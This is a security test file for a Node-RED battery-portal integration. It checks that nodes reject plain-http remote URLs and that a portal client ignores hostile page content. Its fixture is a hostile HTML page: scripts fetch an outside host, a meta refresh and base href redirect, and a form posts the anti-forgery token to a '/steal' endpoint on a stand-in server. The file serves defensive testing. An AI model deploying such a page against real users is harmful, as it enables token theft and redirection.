/**
 * Issue 8, security: what the other suites do not already show (see RELIABILITY.md for those:
 * admin routes refused without permission in node-red-load.test.ts, the URL policy's rules in
 * http-helpers.test.ts, portal redirects kept on the portal's origin in portal-client.test.ts).
 *
 * - A read and a control node on an account with a plain http: URL to a remote host refuse to
 *   run, say why (red status, Catch) and never open a connection.
 * - Nothing in a portal page is executed or used as an address: a hostile portal's form actions,
 *   scripts, meta refreshes, base and links are ignored, and no request leaves the portal's paths.
 */
import http from 'http';
import type { AddressInfo } from 'net';
import should from 'should';
import sinon from 'sinon';
import helper from 'node-red-node-test-helper';
import { NODE_RED_RUNTIME } from '../helpers/node-red-under-test';
import { Redactor } from '../../src/http/redactor';
import { Transport } from '../../src/http/transport';
import { PortalClient } from '../../src/portal/portal-client';
import { loadControlFlow, recordRequests } from '../helpers/control-flow';
import { loadReadFlow, waitUntil } from '../helpers/read-flow';
import type { RedbackSimulator } from '../../src/sim';

helper.init(NODE_RED_RUNTIME);

const ST = 'RB21081800001734';

/** A loopback server that records every request line and answers with `handler`. */
async function serve(handler: http.RequestListener): Promise<{ url: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    handler(req, res);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    close: () => new Promise<void>((resolve) => {
      server.closeAllConnections();
      server.close(() => resolve());
    }),
  };
}

describe('security', () => {
  describe('the URL policy in the nodes', () => {
    before(() => helper.startServer());
    after(() => helper.stopServer());
    afterEach(() => helper.unload());

    it('a read node on an http: API URL to a remote host shows red, reaches Catch and connects nowhere', async () => {
      const requests = recordRequests();
      try {
        const flow = await loadReadFlow({ url: 'http://api.example.com' } as RedbackSimulator, { serial: ST });
        flow.poll();
        await waitUntil(() => flow.caught.length === 1, 'the Catch node');
        should(flow.caught[0].error.message).match(/API URL must use https: \(plain http: is allowed only for loopback addresses/);
        should(flow.lastStatus()).eql({ fill: 'red', shape: 'ring', text: 'check settings' });
        should(requests.list).be.empty();
      } finally {
        requests.restore();
      }
    });

    it('a control node on an http: portal URL to a remote host refuses its command and sends nothing', async () => {
      const requests = recordRequests();
      try {
        const flow = await loadControlFlow({ url: 'http://portal.example.com' } as RedbackSimulator, { serial: ST, method: 'portal' });
        flow.send({ command: 'charge', powerW: 1000 });
        const caught = await flow.error(1);
        should(caught.error.message).match(/must use https:/);
        should(flow.lastStatus()).have.properties({ fill: 'red', shape: 'ring' });
        should(requests.list).be.empty();
        should(flow.out).be.empty();
      } finally {
        requests.restore();
      }
    });
  });

  describe('portal pages are data, never code or addresses', () => {
    it('a hostile portal\'s actions, scripts, refreshes, base and links are ignored', async () => {
      const elsewhere = await serve((_req, res) => res.end('nothing here'));
      const hostile = (token: string, formSelector: string): string => `<!DOCTYPE html><html><head>
        <base href="${elsewhere.url}/">
        <meta http-equiv="refresh" content="0; url=${elsewhere.url}/refresh">
        <script>globalThis.portalScriptRan = true; fetch("${elsewhere.url}/script");</script>
        <script src="${elsewhere.url}/script.js"></script>
        </head><body onload="globalThis.portalScriptRan = true">
        <a href="${elsewhere.url}/link">link</a><img src="${elsewhere.url}/img.png">
        <form ${formSelector} action="${elsewhere.url}/steal" method="post">
          <input type="hidden" name="__RequestVerificationToken" value="${token}">
          <input type="hidden" name="ReturnUrl" value="${elsewhere.url}/return">
        </form></body></html>`;
      const portal = await serve((req, res) => {
        const p = (req.url ?? '').split('?')[0];
        if (req.method === 'GET' && p === '/Account/Login') {
          res.writeHead(200, { 'Content-Type': 'text/html' });
          res.end(hostile('login-token', 'class="login-form"'));
        } else if (req.method === 'POST' && p === '/Account/Login') {
          res.writeHead(302, { Location: '/ui/', 'Set-Cookie': '.AspNet.ApplicationCookie=session-abcdef123456; path=/; HttpOnly' });
          res.end();
        } else if (p === '/productcontrol/Configure') {
          res.writeHead(200, { 'Content-Type': 'text/html' });
          res.end(hostile('configure-token', 'id="GlobalAntiForgeryToken"'));
        } else if (p === '/productcontrol/Index') {
          res.writeHead(200, { 'Content-Type': 'application/json' });
          res.end('{"success":true}');
        } else {
          res.writeHead(200, { 'Content-Type': 'text/html' });
          res.end(hostile('other', 'class="other"'));
        }
      });
      const transport = new Transport({ redactor: new Redactor(), baseDelayMs: 5, maxDelayMs: 20, timeoutMs: 5000 });
      const fetchSpy = sinon.spy(globalThis, 'fetch');
      try {
        const client = new PortalClient({ portalUrl: portal.url, email: 'a@example.com', password: 'pw-123456', transport });
        await client.setMode(ST, 'ChargeBattery', 1000, '2.16.32211.1');
        should(portal.hits).eql([
          // The session cookie arrived with the redirect, so the redirect is not followed.
          'GET /Account/Login', 'POST /Account/Login',
          `GET /productcontrol/Configure?serialNumber=${ST}`, 'POST /productcontrol/Index',
        ]);
        should(elsewhere.hits).eql([]);
        should((globalThis as { portalScriptRan?: boolean }).portalScriptRan).be.undefined();
        should(fetchSpy.called).be.false();
        client.close();
      } finally {
        fetchSpy.restore();
        transport.close();
        await portal.close();
        await elsewhere.close();
      }
    });
  });
});
